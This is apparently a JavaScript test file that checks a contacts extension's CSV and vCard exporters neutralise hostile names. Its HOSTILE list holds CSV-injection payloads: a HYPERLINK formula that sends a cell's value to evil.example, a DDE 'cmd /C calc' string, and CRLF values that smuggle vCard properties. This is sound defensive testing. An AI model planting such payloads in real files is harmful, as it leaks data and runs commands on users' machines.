// @ts-check
// The CSV and vCard exports with hostile names: `node --test tests/js/format.test.js`.
// A cell that starts with = + - @ tab or CR is a formula to a spreadsheet (CSV injection); a
// line break in a vCard value starts a new property. Both builders must neutralise them.
import { test } from "node:test";
import assert from "node:assert/strict";
import { toCsv, toVcard } from "../../extension/lib/format.js";

/** @typedef {import("../../pkg/kith.js").Contact} Contact */

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "+1 555 0100",
  "-2+3",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\tX",
  "\rX",
  "Ann\r\nLee",
  "Ann\r\n=1+1",
  "Bob, \"the\"; builder\\",
];

/** @param {string} name @param {Partial<Contact>} [extra] @returns {Contact} */
function contact(name, extra = {}) {
  return {
    id: "c0123456789abcdef", name, phones: ["+447700900123"], emails: ["ann@example.com"], sources: ["whatsapp"],
    lastSentAt: "2024-03-05T14:07:00Z", lastReceivedAt: null, lastInteractionAt: "2024-03-05T14:07:00Z",
    firstInteractionAt: "2024-03-05T14:07:00Z", sentCount: 1, receivedCount: 0, callCount: 0,
    groupMessageCount: 0, lastGroupMessageAt: null, myReplyMinutes: null, theirReplyMinutes: null,
    waitingOn: null, cadenceDays: null, overdueRatio: null, connectedAt: null, handles: [], mergedBecause: [],
    goalDays: null, suggestedGoalDays: null, snoozedUntil: null, notNow: false, reminders: true, attention: 0, attentionReason: null, ...extra,
  };
}

/** RFC 4180, as a spreadsheet reads it: quoted fields may hold commas, quotes and line breaks. @param {string} text */
function parseCsv(text) {
  /** @type {string[][]} */
  const rows = [];
  /** @type {string[]} */
  let row = [];
  let cell = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') { cell += '"'; i++; } else if (c === '"') quoted = false; else cell += c;
    } else if (c === '"' && cell === "") quoted = true;
    else if (c === ",") { row.push(cell); cell = ""; }
    else if (c === "\r" && text[i + 1] === "\n") { row.push(cell); rows.push(row); row = []; cell = ""; i++; }
    else cell += c;
  }
  assert.equal(row.length + cell.length, 0, "the CSV ends with a line break");
  return rows;
}

test("no CSV cell starts a formula, and every value survives", () => {
  const contacts = HOSTILE.map((name) => contact(name, { phones: ["+447700900123", "-1"], emails: ["@x.example"] }));
  const rows = parseCsv(toCsv(contacts));
  const header = rows[0];
  assert.equal(rows.length, contacts.length + 1, "one row per contact: no line break escaped its cell");
  for (const [i, row] of rows.slice(1).entries()) {
    assert.equal(row.length, header.length, `row ${i} keeps its columns`);
    for (const cell of row) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `row ${i}: ${JSON.stringify(cell)}`);
    const name = row[header.indexOf("name")];
    assert.equal(name, /^[=+\-@\t\r]/.test(HOSTILE[i]) ? `'${HOSTILE[i]}` : HOSTILE[i], "the value is kept after the quote mark");
    assert.equal(row[header.indexOf("phones")], "'+447700900123;-1");
    assert.equal(row[header.indexOf("emails")], "'@x.example");
  }
});

test("a CR alone is quoted, not left to end a row", () => {
  const csv = toCsv([contact("Ann\rLee")]);
  assert.match(csv, /\r\n"Ann\rLee",/);
});

test("vCard values cannot start a new line or property", () => {
  const vcard = toVcard(HOSTILE.map((name) => contact(name, { emails: ["a@x.example\r\nTEL:+1"], phones: ["+1;TYPE=x"] })));
  const lines = vcard.split("\r\n");
  assert.equal(lines.pop(), "", "ends with CRLF");
  const property = /^(BEGIN|VERSION|FN|N|TEL|EMAIL|NOTE|UID|END)[;:]/;
  for (const line of lines) {
    assert.match(line, property, JSON.stringify(line));
    assert.doesNotMatch(line, /[\r\n]/);
  }
  assert.equal(lines.filter((l) => l.startsWith("BEGIN:")).length, HOSTILE.length);
  assert.equal(lines.filter((l) => l.startsWith("TEL")).length, HOSTILE.length, "no TEL smuggled in through an email");
  /** @param {string} v */
  const unescape = (v) => v.replace(/\\([\\,;nN])/g, (_, c) => (c === "n" || c === "N" ? "\n" : c));
  const names = lines.filter((l) => l.startsWith("FN:")).map((l) => unescape(l.slice(3)));
  // Line breaks come back as LF (vCard has one newline escape); everything else is exact.
  assert.deepEqual(names, HOSTILE.map((n) => n.replace(/\r\n|\r/g, "\n")));
  assert.ok(lines.includes("FN:Bob\\, \"the\"\\; builder\\\\"));
  assert.ok(lines.includes("TEL;TYPE=CELL:+1\\;TYPE=x"));
});
